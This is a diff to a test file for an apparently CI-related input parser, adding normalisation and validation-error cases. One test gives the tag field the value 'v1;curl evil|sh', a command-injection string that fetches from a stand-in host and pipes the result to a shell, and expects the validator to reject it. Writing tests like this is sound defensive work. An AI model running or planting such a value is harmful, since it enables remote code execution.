@@ -58,6 +58,7 @@ describe('inputs', () => {
     { given: { command: 'plan' }, change: { command: 'plan' } },
     { given: { command: ' Plan ' }, change: { command: 'plan' } },
     { given: { push: 'True' }, change: { push: 'true' } },
+    { given: { push: 'FALSE' }, change: { push: 'false' } },
     {
       given: { config: 'x.yml', registry: ' ghcr.io/a ' },
       change: { config: 'x.yml', registry: 'ghcr.io/a' },
@@ -140,7 +141,18 @@ describe('inputs', () => {
   })
 
   test.each([
-    { given: { push: 'yes' }, message: 'the input push is "yes"', remedy: 'auto, true, false' },
+    { given: { push: 'yes' }, message: 'the input push is "yes"', remedy: 'auto, true or false' },
+    { given: { push: 'tRUE' }, message: 'the input push is "tRUE"', remedy: 'auto, true or false' },
+    {
+      given: { tag: 'v1;curl evil|sh' },
+      message: 'the input tag: "v1;curl evil|sh" is not a tag',
+      remedy: 'letters, digits',
+    },
+    {
+      given: { tag: 'fp-1' },
+      message: 'the input tag: the tag "fp-1" is reserved',
+      remedy: 'does not start with',
+    },
     { given: { command: 'bulid' }, message: 'the input command is "bulid"', remedy: 'run, plan' },
     { given: { force: 'yes' }, message: 'the input force is "yes"', remedy: 'true or false' },
     { given: { summary: '1' }, message: 'the input summary is "1"', remedy: 'true or false' },
